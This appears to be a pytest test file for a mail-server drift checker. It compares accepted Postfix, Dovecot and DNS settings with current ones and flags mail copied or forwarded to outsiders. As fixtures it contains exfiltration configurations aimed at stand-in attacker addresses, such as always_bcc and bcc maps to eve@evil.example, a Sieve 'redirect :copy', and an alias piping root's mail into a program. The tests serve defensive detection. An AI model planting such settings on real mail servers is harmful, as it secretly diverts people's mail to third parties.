"""Drift: what is named, what is not, and who accepts what."""

import base64
from collections.abc import Collection
from typing import Any

import pytest

from fixtures.evidence import CouldNotAsk, Evidence, Verdict
from fixtures.gates.drift import accepted, hosts
from fixtures.gates.drift.judging import accepted_as, differences, judged, judged_strangers, strangers
from fixtures.gates.drift.reading import Source, State, dns_of, sources
from fixtures.gates.present import DOVECOT, POSTFIX
from fixtures.plan.gates import TABLE
from fixtures.store import Store
from scripts import accept
from tests.gates.conftest import World

OURS = frozenset({"example.net", "dell.example.net", "localhost"})
SEEN = Evidence("all of it", "read")
ZONE = dns_of("example.net")
"""A source of one routed domain."""


def stands(parts: dict[str, str], source: str = POSTFIX, **more: object) -> State:
    return State({source: Source(parts, {}, SEEN, **more)})  # type: ignore[arg-type] # what only a zone has


def test_what_is_as_accepted_holds() -> None:
    parts = {"parameter myhostname": "dell.example.net"}
    assert [each.verdict for each in judged({POSTFIX: parts}, stands(parts))] == [Verdict.PASS]


@pytest.mark.parametrize(
    ("before", "now", "named"),
    [
        ({}, {"parameter always_bcc": "eve@evil.example"}, "was not there, is eve@evil.example"),
        ({"parameter always_bcc": "a@b.example"}, {}, "was a@b.example, is not there"),
        ({"file /x": "mode 600 root:root"}, {"file /x": "mode 644 root:root"}, "was mode 600 root:root, is mode 644"),
        ({"map hash:/v": "a b\nc d"}, {"map hash:/v": "a b\nc d\ne evil@evil.example"}, "+e evil@evil.example"),
    ],
)
def test_each_difference_is_named(before: dict[str, str], now: dict[str, str], named: str) -> None:
    (finding,) = judged({POSTFIX: before}, stands(now))
    assert finding.verdict is Verdict.FAIL
    assert named in finding.found
    assert "scripts.accept" in finding.hint


def test_a_program_that_can_not_be_seen_now_is_no_other() -> None:
    assert not list(differences({POSTFIX: {"listens at *:25": "master"}}, stands({"listens at *:25": "somebody"})))
    assert list(differences({POSTFIX: {"listens at *:25": "master"}}, stands({"listens at *:25": "python3"})))
    assert list(differences({POSTFIX: {}}, stands({"listens at *:25": "somebody"})))


def test_who_wrote_it_and_when_is_said() -> None:
    look = Source({"file /x": "new"}, {"file /x": "written 2026-11-26 22:10, its owner is eve"}, SEEN)
    (found,) = differences({POSTFIX: {"file /x": "old"}}, State({POSTFIX: look}))
    assert found.found == "was old, is new (written 2026-11-26 22:10, its owner is eve)"


def test_what_could_not_be_read_or_was_never_accepted_is_inconclusive() -> None:
    found = judged({POSTFIX: {}}, State({DOVECOT: Source({"x": "y"}, {}, SEEN)}, {POSTFIX: "no answer"}))
    assert {each.member: each.verdict for each in found} == dict.fromkeys([DOVECOT, POSTFIX], Verdict.INCONCLUSIVE)
    (none,) = judged(None, State())
    assert none.verdict is Verdict.INCONCLUSIVE


def test_only_what_email_routing_adds_by_itself_passes() -> None:
    key = "v=DKIM1; p=abc (TTL 300)"
    known = {ZONE: {"MX example.net": "10 mail.example.net (TTL 300)"}}
    now = known[ZONE] | {"TXT cf._domainkey.example.net": key}
    assert not list(differences(known, stands(now, ZONE, placed=frozenset({key}))))
    assert list(differences(known, stands(now, ZONE)))
    gone = {"TXT cf._domainkey.example.net": key}
    assert list(differences(known, stands(gone, ZONE, placed=frozenset({key}))))
    (finding,) = [each for each in judged(known, stands(now, ZONE)) if each.verdict is Verdict.FAIL]
    assert finding.domain == "example.net"
    assert "audit log" in finding.hint


@pytest.mark.parametrize(
    ("parts", "text"),
    [
        ({"parameter always_bcc": "eve@evil.example"}, "parameter always_bcc sends copies to eve@evil.example"),
        ({"override cleanup/unix/always_bcc": "eve@evil.example"}, "always_bcc sends copies to eve@evil.example"),
        (
            {"parameter recipient_bcc_maps": "hash:/b", "map hash:/b": "alice@example.net\teve@evil.example"},
            "recipient_bcc_maps sends copies to eve@evil.example (for alice@example.net, by hash:/b)",
        ),
        (
            {
                "parameter sender_bcc_maps": "texthash:/b",
                "file /b": "mode 644 root:root\n# x\n@example.net e@evil.example",
            },
            "sender_bcc_maps sends copies to e@evil.example",
        ),
        ({"parameter sender_bcc_maps": "mysql:/b.cf"}, "sender_bcc_maps sends copies by mysql:/b.cf, which can't be"),
        ({"parameter recipient_bcc_maps": "static:eve@evil.example"}, "sends copies to eve@evil.example"),
        ({"parameter recipient_bcc_maps": "inline:{a@example.net=eve@evil.example}"}, "copies to eve@evil.example"),
        (
            {
                "parameter virtual_alias_maps": "hash:/v",
                "map hash:/v": "bob@example.net\tbob@localhost, b@evil.example",
            },
            "virtual_alias_maps leads mail to b@evil.example",
        ),
        (
            {"parameter virtual_alias_maps": "unionmap:{hash:/v}", "map hash:/v": "bob@example.net\tb@evil.example"},
            "virtual_alias_maps leads mail to b@evil.example",
        ),
        (
            {"parameter alias_maps": "hash:/a", "map hash:/a": 'root\t"|/bin/send"'},
            "leads mail into a program (for root",
        ),
    ],
)
def test_a_copy_to_a_stranger_is_named(parts: dict[str, str], text: str) -> None:
    (found,) = strangers(POSTFIX, parts, OURS)
    assert text in found


@pytest.mark.parametrize(
    "parts",
    [
        {"parameter always_bcc": "archive@example.net"},
        {"parameter always_bcc": "archive@mail.dell.example.net"},
        {"parameter always_bcc": ""},
        {"parameter virtual_alias_maps": "hash:/v", "map hash:/v": "bob@example.net\talice@example.net\nroot\talice"},
        {"parameter smtpd_sender_restrictions": "eve@evil.example"},
    ],
)
def test_what_stays_with_the_operator_is_none(parts: dict[str, str]) -> None:
    assert not list(strangers(POSTFIX, parts, OURS))


def test_sieve_mirrors_and_rules_are_named() -> None:
    script = "\n".join(hosts.sieve_acts('if true { redirect :copy "eve@evil.example"; } # discard;\nkeep;'))
    found = strangers(DOVECOT, {"Sieve /srv/a/.dovecot.sieve": script, "Dovecot's mail_replica": "tcp:mirror"}, OURS)
    assert list(found) == [
        f'{DOVECOT}: Sieve /srv/a/.dovecot.sieve: redirect :copy "eve@evil.example"',
        f"{DOVECOT}: Dovecot's mail_replica mirrors mailboxes (mail_replica)",
    ]
    rules = {"rule a@example.net": "forward eve@evil.example", "rule b@example.net": "forward b@dell.example.net"}
    assert list(strangers("Email Routing of example.net", rules, OURS)) == [
        "Email Routing of example.net: rule a@example.net: forward eve@evil.example"
    ]


def test_what_a_person_named_passes() -> None:
    parts = {"parameter always_bcc": "eve@evil.example"}
    red = [each for each in judged_strangers(stands(parts), OURS, (), ()) if each.verdict is Verdict.FAIL]
    assert len(red) == 1
    for named, opens in (({red[0].member}, True), ({"parameter always_bcc"}, False)):
        found = judged_strangers(stands(parts), OURS, (), named)
        assert all(each.verdict.opens for each in found) is opens


@pytest.mark.parametrize(
    ("text", "filters", "by"),
    [
        ('Sieve /srv/a/.dovecot.sieve: redirect :copy "eve@evil.example"', "sieve", ""),
        ('Sieve /srv/eve@evil.example/x: redirect :copy "mallory@evil.example"', "eve@evil.example", ""),
        ('Sieve /srv/a/.dovecot.sieve: redirect :copy "eve@evil.example"', "eve@evil.example", "eve@evil.example"),
        ("parameter always_bcc sends copies to eve@evil.example", "always_bcc", ""),
        ("parameter always_bcc sends copies to eve@evil.example", "ve@evil.example", ""),
        ("parameter always_bcc sends copies to eve@evil.example", "bcc: eve@evil.example", "bcc: eve@evil.example"),
        ("map leads mail to eve@evil.example (for a@example.net, by hash:/v)", "a@example.net", ""),
        ("Sieve /srv/a/x: pipe", "pipe", ""),
    ],
)
def test_a_filter_of_the_settings_accepts_by_the_strangers_whole_address(text: str, filters: str, by: str) -> None:
    assert accepted_as(text, OURS, (filters,), ()) == by


def test_records_lie_one_over_the_other(world: World) -> None:
    store: Store = world.migration.store
    assert accepted.accepted(store) is None
    accepted.keep(world.migration, accepted.FIRST, {POSTFIX: {"a": "1", "b": "2"}})
    accepted.keep(world.migration, "prepare_dell", {POSTFIX: {"a": "3", "b": None}, ZONE: {"c": "4"}})
    assert accepted.accepted(store) == {POSTFIX: {"a": "3"}, ZONE: {"c": "4"}}
    accepted.keep(world.migration, accepted.PERSON, {}, **{accepted.NAMED: ["x"]})
    assert accepted.named(store) == {"x"}


def test_only_what_a_script_changed_is_its_doing() -> None:
    before = {ZONE: {"MX": "old", "TXT": "somebody else's"}, POSTFIX: {"a": "1"}}
    after = {ZONE: {"MX": "new", "TXT": "somebody else's", "A": "more"}, DOVECOT: {"b": "2"}}
    assert accepted.changed(before, after) == {ZONE: {"MX": "new", "A": "more"}}


def test_every_script_that_changes_systems_has_its_scope(world: World) -> None:
    names = set(sources(world.migration.settings.domain_names))
    opened = {script for gate in TABLE.values() for script in gate.opens} - {"trial"}  # it takes all of it away again
    assert opened <= accepted.SCOPE.keys()
    for script in accepted.SCOPE:
        assert set(accepted.scope(world.migration, script, "", hurried=False)) <= names


def test_what_hosts_print_is_read() -> None:
    text = base64.b64encode(b"alice@example.net x\n").decode()
    printed = f"""\
=-=-= postfix
mail_version = 3.10.5
myhostname = dell.example.net
smtp       inet  n       -       n       -       -       smtpd
=-=-= files
644 root:root 1790000000 none - /etc/postfix/main.cf
600 root:root 1790000000 digest 0123456789abcdef0123 /etc/postfix/sasl_passwd
644 root:root 1790000000 text {text} /etc/postfix/virtual
=-=-= keys
600 root:root 1790000000 none - /etc/ssl/key.pem
=-=-= maps
text {text} hash:/etc/postfix/virtual
digest 0123456789abcdef0123 hash:/etc/postfix/sasl_passwd
"""
    parts, when = hosts.postfix(printed)
    assert parts["parameter myhostname"] == "dell.example.net"
    assert parts["file /etc/postfix/sasl_passwd"] == "mode 600 root:root\ndigest 0123456789abcdef"
    assert parts["file /etc/ssl/key.pem"] == "mode 600 root:root"
    assert parts["map hash:/etc/postfix/virtual"] == "alice@example.net x\n"
    assert "its owner is root" in when["parameter myhostname"]
    assert when["map hash:/etc/postfix/virtual"] == when["file /etc/postfix/virtual"]
    listens = 'LISTEN 0 100 0.0.0.0:25 0.0.0.0:* users:(("smtpd",pid=9,fd=6),("master",pid=7,fd=13))\n'
    listens += 'LISTEN 0 9 *:80 *:* users:(("nginx",pid=8,fd=6),("eve",pid=6,fd=6))\nLISTEN 0 1 [::]:40123 [::]:*'
    writers = "644 root:root 1790000000 '/etc/cron.d/x'\n777 root:root 1 '/etc/y' -> '/lib/y'"
    rest = "=-=-= sums\n00112233445566778899  /etc/cron.d/x\n=-=-= names\n127.0.0.1 localhost\n"
    ports = f"=-=-= ports\n{listens}\n=-=-= parents\n7 1\n8 1\n9 7\n6 1"
    parts, _ = hosts.machine(f"{ports}\n=-=-= writers\n{writers}\n{rest}")
    assert parts == {
        "listens at 0.0.0.0:25": "master",
        "listens at *:80": "eve, nginx",
        "file /etc/cron.d/x": "mode 644 root:root\ndigest 0011223344556677",
        "file /etc/y": "mode 777 root:root\nleads to /lib/y",
        "/etc/hosts": "127.0.0.1 localhost",
    }


def test_no_password_is_kept_of_dovecots_users() -> None:
    printed = (
        "=-=-= dovecot\n2.4.1\nprotocols = imap\n=-=-= users\n/etc/users: alice@example.net::::/srv/a::\n=-=-= sieve\n"
    )
    parts, _ = hosts.dovecot(printed)
    assert parts["users in /etc/users"] == "alice@example.net::::/srv/a::"


def reads(monkeypatch: pytest.MonkeyPatch, *states: dict[str, dict[str, str]]) -> None:
    """What is read, one state after the other."""
    coming = iter(states)

    def read(*_: object) -> State:
        return State({source: Source(parts, {}, SEEN) for source, parts in next(coming).items()})

    monkeypatch.setattr(accepted, "read", read)


def writing(world: World, script: str = "lower_ttl", *, finishes: Collection[str] = (), hurried: bool = False) -> Any:
    return accepted.by_script(world.migration, script, "example.net", finishes=finishes, hurried=hurried)


def test_what_a_script_writes_is_accepted_however_it_ends(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    accepted.keep(world.migration, accepted.FIRST, {ZONE: {"MX": "old", "TXT": "as it was"}})
    reads(monkeypatch, {ZONE: {"MX": "old", "TXT": "by a stranger"}}, {ZONE: {"MX": "new", "TXT": "by a stranger"}})
    with pytest.raises(RuntimeError), writing(world):
        raise RuntimeError
    assert accepted.accepted(world.migration.store) == {ZONE: {"MX": "new", "TXT": "as it was"}}


def test_what_a_killed_run_left_is_accepted_by_the_next(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    accepted.keep(world.migration, accepted.FIRST, {ZONE: {"MX": "old"}})
    reads(monkeypatch, {ZONE: {"MX": "old"}})
    with pytest.raises(CouldNotAsk), writing(world):
        raise CouldNotAsk
    assert accepted.accepted(world.migration.store) == {ZONE: {"MX": "old"}}
    reads(monkeypatch, {ZONE: {"MX": "new"}})
    with writing(world, finishes=("lower_ttl",)):
        pass
    assert accepted.accepted(world.migration.store) == {ZONE: {"MX": "new"}}


def test_what_could_not_be_read_before_is_not_the_scripts_doing(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    accepted.keep(world.migration, accepted.FIRST, {ZONE: {"MX": "old"}})
    reads(monkeypatch, {}, {ZONE: {"MX": "by a stranger"}})
    with writing(world):
        pass
    assert accepted.accepted(world.migration.store) == {ZONE: {"MX": "old"}}


def test_a_way_back_asks_nothing_before_it_writes(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    accepted.keep(world.migration, accepted.FIRST, {ZONE: {"MX example.net": "cloudflare", "TXT x": "as it was"}})
    reads(monkeypatch, {ZONE: {"MX example.net": "ec2", "TXT x": "by a stranger"}})
    with writing(world, "rollback", hurried=True):
        pass
    assert accepted.accepted(world.migration.store) == {ZONE: {"MX example.net": "ec2", "TXT x": "as it was"}}


def test_nothing_is_read_where_nothing_was_accepted(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    reads(monkeypatch)
    with writing(world):
        pass
    assert accepted.accepted(world.migration.store) is None


@pytest.mark.parametrize("given", ["", "mxgate", "<>", "<a@b> <c@d>"])
def test_a_loss_is_closed_by_one_whole_message_id(
    world: World, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], given: str
) -> None:
    monkeypatch.setattr(accept, "opened", lambda _: world.migration)
    assert accept.main(["--lost", given]) == 2
    assert "expected a Message-ID" in capsys.readouterr().err
